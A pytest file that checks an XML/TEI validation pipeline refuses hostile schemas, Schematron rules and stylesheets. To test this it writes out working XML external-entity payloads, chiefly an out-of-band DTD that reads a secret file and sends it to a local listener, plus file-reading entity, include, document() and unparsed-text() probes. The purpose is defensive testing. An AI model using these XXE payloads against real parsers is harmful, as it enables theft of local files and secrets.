"""Untrusted files never make a parser reach the network or read a file the run was not given:
schemas and Schematron rules named by a document's <?xml-model?> (libxml2, Jing's Java parser,
libxslt), stylesheets (Saxon), and every external process ends within a time limit.

Each attack is made here, in tmp_path: a secret file whose content must appear in no output,
and a listener on 127.0.0.1 that accepts connections and never answers; it must see none."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from click.testing import CliRunner

from conftest import PROJECT
from pipeline import saxon as transform
from pipeline.validation import jing
from pipeline.cli import main

TEI_NS = "http://www.tei-c.org/ns/1.0"
RNG_NS = "http://relaxng.org/ns/structure/1.0"
SECRET = "TOPSECRET-7f3a"
#: The document these tests validate: not valid against GRAMMAR, so that Jing checks it too.
DOCUMENT = f'<TEI xmlns="{TEI_NS}"><teiHeader/></TEI>\n'
GRAMMAR = f'<grammar xmlns="{RNG_NS}"><start><element name="TEI" ns="{TEI_NS}"><empty/></element></start></grammar>\n'

needs_jing = pytest.mark.skipif(not jing.available(), reason="Jing is not installed (./setup.sh installs it)")


class Listener:
    """A TCP server on a free port of 127.0.0.1 that counts connections and never answers (or,
    with `hang_up`, closes each at once, so that a client in this process does not wait)."""

    def __init__(self, hang_up: bool = False):
        self.hang_up = hang_up
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.1)
        self.port = self.server.getsockname()[1]
        self.connections: list[socket.socket] = []
        self.running = True
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self):
        while self.running:
            try:
                self.connections.append(self.server.accept()[0])
                if self.hang_up:
                    self.connections[-1].close()
            except OSError:
                continue

    def close(self):
        self.running = False
        self.thread.join()
        for connection in self.connections:
            connection.close()
        self.server.close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


@pytest.fixture
def secret(tmp_path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET, encoding="utf-8")
    return path


def modelled(folder: Path, *schemas: str) -> Path:
    """A document whose <?xml-model?> instructions name these schema files."""
    lines = []
    for name in schemas:
        namespace = "http://purl.oclc.org/dsdl/schematron" if name.endswith(".sch") else RNG_NS
        lines.append(f'<?xml-model href="{name}" schematypens="{namespace}"?>\n')
    path = folder / "doc.xml"
    path.write_text("".join(lines) + DOCUMENT, encoding="utf-8")
    return path


def validate(*args):
    return CliRunner().invoke(main, ["validate", "--no-schematron", *map(str, args)])


def validate_apart(*args, **env) -> str:
    """`teipipe validate` in a process of its own, which must end within 30 s; its output."""
    try:
        done = subprocess.run([sys.executable, "-m", "pipeline", "validate", "--no-schematron", *map(str, args)],
                              capture_output=True, text=True, timeout=30, cwd=PROJECT, env={**os.environ, **env})
    except subprocess.TimeoutExpired:
        pytest.fail("validate did not end within 30 s")
    assert "Traceback" not in done.stdout + done.stderr
    return done.stdout + done.stderr


def exfiltrating_dtd(folder: Path, secret: Path, port: int) -> None:
    """oob.dtd: reads the secret into a parameter entity and sends it to the listener."""
    (folder / "oob.dtd").write_text(
        f'<!ENTITY % file SYSTEM "{secret.as_uri()}">\n'
        f"<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM 'http://127.0.0.1:{port}/?d=%file;'>\">\n"
        "%wrap;\n%send;\n", encoding="utf-8")


@pytest.mark.parametrize("engines", [{}, {"TEIPIPE_JING": "none"}], ids=["jing", "libxml2"])
def test_relaxng_schema_with_external_dtd_is_refused_and_fetches_nothing(tmp_path, secret, listener, engines):
    if not engines and not jing.available():
        pytest.skip("Jing is not installed (./setup.sh installs it)")
    exfiltrating_dtd(tmp_path, secret, listener.port)
    (tmp_path / "evil.rng").write_text('<?xml version="1.0"?>\n<!DOCTYPE grammar SYSTEM "oob.dtd">\n' + GRAMMAR,
                                       encoding="utf-8")
    output = validate_apart(modelled(tmp_path, "evil.rng"), **engines)
    assert SECRET not in output
    assert listener.connections == []
    assert f"{tmp_path / 'evil.rng'}:2:1: cannot use schema: its DOCTYPE names the external DTD oob.dtd" in output


@pytest.mark.parametrize("schema_text, says", [
    ('<!DOCTYPE grammar [<!ENTITY s SYSTEM "SECRET_URI">]>\n' + GRAMMAR.replace("<empty/>", "<value>&s;</value>"),
     ":1:1: cannot use schema: its DOCTYPE declares entities (s)"),
    (f'<grammar xmlns="{RNG_NS}"><include href="SECRET_URI"/></grammar>', "outside the schema's folder"),
], ids=["entity", "include-outside"])
def test_schema_reading_a_file_it_was_not_given_is_refused(tmp_path, secret, schema_text, says):
    folder = tmp_path / "schemas"
    folder.mkdir()
    (folder / "evil.rng").write_text(schema_text.replace("SECRET_URI", secret.as_uri()), encoding="utf-8")
    doc = modelled(tmp_path, "schemas/evil.rng")
    result = validate(doc)
    assert SECRET not in result.output
    assert says in result.output


@needs_jing
def test_dtd_url_that_never_answers_ends_quickly_with_a_clear_message(tmp_path, listener):
    (tmp_path / "slow.rng").write_text(
        f'<!DOCTYPE grammar SYSTEM "http://127.0.0.1:{listener.port}/slow.dtd">\n' + GRAMMAR, encoding="utf-8")
    output = validate_apart(modelled(tmp_path, "slow.rng"))
    assert listener.connections == []
    assert "cannot use schema: its DOCTYPE names the external DTD http://127.0.0.1" in output


@needs_jing
def test_java_itself_refuses_what_jing_was_not_given(tmp_path, secret, monkeypatch):
    # As if the schema had passed every check in Python: the JVM's policy alone must stop it.
    listener = Listener(hang_up=True)
    exfiltrating_dtd(tmp_path, secret, listener.port)
    schema = tmp_path / "evil.rng"
    schema.write_text('<!DOCTYPE grammar SYSTEM "oob.dtd">\n' + GRAMMAR, encoding="utf-8")
    doc = modelled(tmp_path)
    monkeypatch.setattr(jing, "files", lambda s: {s.path: 0}, raising=False)
    batch = jing.Batch(schema, {doc: str(doc)}).start()
    with pytest.raises(jing.JingError) as refused:
        batch.findings()
    listener.close()
    assert "refused" in str(refused.value) and SECRET not in str(refused.value)
    assert listener.connections == []


@needs_jing
def test_jing_past_its_time_limit_is_stopped_and_named(tmp_path, monkeypatch):
    (tmp_path / "strict.rng").write_text(GRAMMAR, encoding="utf-8")
    doc = modelled(tmp_path, "strict.rng")
    monkeypatch.setattr(jing, "SECONDS_AT_LEAST", 0, raising=False)
    monkeypatch.setattr(jing, "SECONDS_PER_FILE", 0, raising=False)
    result = validate(doc)
    assert f"Jing did not finish {doc} against strict.rng within its time limit, and was stopped" in result.output
    assert "Traceback" not in result.output


def test_schematron_reads_no_file_and_no_url(tmp_path, secret, listener):
    (tmp_path / "secret.xml").write_text(f"<secret>{SECRET}</secret>", encoding="utf-8")
    for name, url in (("file.sch", (tmp_path / "secret.xml").as_uri()),
                      ("net.sch", f"http://127.0.0.1:{listener.port}/")):
        (tmp_path / name).write_text(
            '<sch:schema xmlns:sch="http://purl.oclc.org/dsdl/schematron"><sch:pattern><sch:rule context="/*">'
            f"<sch:report test=\"true()\">read: <sch:value-of select=\"document('{url}')\"/></sch:report>"
            "</sch:rule></sch:pattern></sch:schema>", encoding="utf-8")
    result = validate(modelled(tmp_path, "file.sch", "net.sch"))
    assert SECRET not in result.output
    assert listener.connections == []
    assert result.output.count("read rights for") == 2, result.output


def test_saxon_stylesheet_reaches_no_url(tmp_path):
    # Saxon holds Python's lock while it runs, so no listener thread could answer it: the port
    # is bound but not listening, and only Saxon's own refusal says that it did not try.
    with socket.socket() as reserved:
        reserved.bind(("127.0.0.1", 0))
        url = "http://127.0.0.1:%d/" % reserved.getsockname()[1]
        stylesheet = tmp_path / "fetch.xsl"
        stylesheet.write_text(
            '<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
            '<xsl:template match="/"><r><xsl:value-of select="unparsed-text(/a/@u), doc(/a/@u)"/></r>'
            "</xsl:template></xsl:stylesheet>", encoding="utf-8")
        node = transform.to_xdm(f'<a u="{url}"/>', tmp_path.as_uri() + "/doc.xml")
        with pytest.raises(transform.TransformError, match=f"Access to URI {url} has been prohibited"):
            transform.apply(stylesheet, node)
